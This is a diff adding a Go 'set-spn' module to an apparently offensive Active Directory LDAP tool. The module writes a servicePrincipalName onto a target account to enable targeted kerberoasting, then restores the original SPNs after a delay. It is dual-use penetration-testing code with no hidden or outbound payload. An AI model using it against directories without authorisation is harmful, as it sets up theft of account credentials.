@@ -0,0 +1,163 @@
+package modules
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/go-ldap/ldap/v3"
+	"github.com/ropnop/go-windapsearch/pkg/adschema"
+	"github.com/ropnop/go-windapsearch/pkg/ldapsession"
+	"github.com/spf13/pflag"
+)
+
+type SetSPNModule struct {
+	Target       string
+	SPN          string
+	Action       string
+	RestoreAfter time.Duration
+	NoRestore    bool
+}
+
+func init() {
+	AllModules = append(AllModules, new(SetSPNModule))
+	adschema.RegisterAttribute("originalSpns", "String(Unicode)", false)
+}
+
+func (s *SetSPNModule) Name() string {
+	return "set-spn"
+}
+
+func (s *SetSPNModule) Description() string {
+	return "Add or remove a servicePrincipalName on an account (targeted kerberoasting), restoring the original SPNs afterwards"
+}
+
+func (s *SetSPNModule) FlagSet() *pflag.FlagSet {
+	flags := pflag.NewFlagSet(s.Name(), pflag.ExitOnError)
+	flags.StringVar(&s.Target, "target", "", "DN or sAMAccountName of the account to modify")
+	flags.StringVar(&s.SPN, "spn", "", "SPN to add or remove (default when adding: a random windapsearch/<id> SPN)")
+	flags.StringVar(&s.Action, "action", "add", "Whether to add or remove the SPN: add, remove")
+	flags.DurationVar(&s.RestoreAfter, "restore-after", time.Minute, "How long to wait before restoring the original SPNs (Ctrl-C restores straight away)")
+	flags.BoolVar(&s.NoRestore, "no-restore", false, "Leave the change in place instead of restoring the original SPNs")
+	return flags
+}
+
+func (s *SetSPNModule) DefaultAttrs() []string {
+	return []string{"action", "originalSpns", "servicePrincipalName", "status"}
+}
+
+func (s *SetSPNModule) IsWriteModule() bool {
+	return true
+}
+
+func (s *SetSPNModule) Run(session *ldapsession.LDAPSession, attrs []string) error {
+	if s.Target == "" {
+		return fmt.Errorf("must provide a --target")
+	}
+	action := strings.ToLower(s.Action)
+	if action != "add" && action != "remove" {
+		return fmt.Errorf("invalid action %q (must be one of add, remove)", s.Action)
+	}
+	spn := s.SPN
+	if spn == "" {
+		if action == "remove" {
+			return fmt.Errorf("must provide the --spn to remove")
+		}
+		id := make([]byte, 4)
+		if _, err := rand.Read(id); err != nil {
+			return err
+		}
+		spn = "windapsearch/" + hex.EncodeToString(id)
+	}
+	dn, err := resolveDN(session, s.Target, "")
+	if err != nil {
+		return err
+	}
+	original, err := s.currentSPNs(session, dn)
+	if err != nil {
+		return err
+	}
+
+	values := map[string][]string{"action": {action}, "originalSpns": original}
+	has := containsFold(original, spn)
+	if has == (action == "add") {
+		values["servicePrincipalName"] = original
+		values["status"] = []string{"unchanged (already done)"}
+		writeResult(session, dn, values, attrs)
+		return nil
+	}
+
+	req := ldap.NewModifyRequest(dn, nil)
+	updated := original
+	if action == "add" {
+		req.Add("servicePrincipalName", []string{spn})
+		updated = append(append([]string(nil), original...), spn)
+	} else {
+		req.Delete("servicePrincipalName", []string{spn})
+		updated = nil
+		for _, v := range original {
+			if !strings.EqualFold(v, spn) {
+				updated = append(updated, v)
+			}
+		}
+	}
+	applied, err := session.Modify(req)
+	if err != nil {
+		return fmt.Errorf("unable to %s SPN: %s", action, err)
+	}
+	values["servicePrincipalName"] = updated
+	values["status"] = []string{writeStatus(session, applied)}
+
+	if applied && !s.NoRestore {
+		done := map[string]string{"add": "Added", "remove": "Removed"}[action]
+		fmt.Fprintf(os.Stderr, "[+] %s SPN %q on %s. Restoring the original SPNs in %s (Ctrl-C to restore now)\n", done, spn, dn, s.RestoreAfter)
+		select {
+		case <-time.After(s.RestoreAfter):
+		case <-session.Context().Done():
+		}
+		if err = s.restore(session, dn, original); err != nil {
+			return fmt.Errorf("unable to restore original SPNs %q: %s", original, err)
+		}
+		values["servicePrincipalName"] = original
+		values["status"] = []string{"applied, then restored"}
+	}
+	writeResult(session, dn, values, attrs)
+	return nil
+}
+
+func (s *SetSPNModule) currentSPNs(session *ldapsession.LDAPSession, dn string) ([]string, error) {
+	sr := ldap.NewSearchRequest(dn, ldap.ScopeBaseObject, ldap.NeverDerefAliases, 0, 0, false,
+		"(objectClass=*)", []string{"servicePrincipalName"}, nil)
+	res, err := session.GetSearchResults(sr)
+	if err != nil {
+		return nil, err
+	}
+	if len(res.Entries) == 0 {
+		return nil, fmt.Errorf("object %q not found", dn)
+	}
+	return res.Entries[0].GetAttributeValues("servicePrincipalName"), nil
+}
+
+// restore puts the original SPNs back exactly as they were
+func (s *SetSPNModule) restore(session *ldapsession.LDAPSession, dn string, original []string) error {
+	req := ldap.NewModifyRequest(dn, nil)
+	if len(original) == 0 {
+		req.Delete("servicePrincipalName", nil)
+	} else {
+		req.Replace("servicePrincipalName", original)
+	}
+	_, err := session.Modify(req)
+	return err
+}
+
+func containsFold(values []string, s string) bool {
+	for _, v := range values {
+		if strings.EqualFold(v, s) {
+			return true
+		}
+	}
+	return false
+}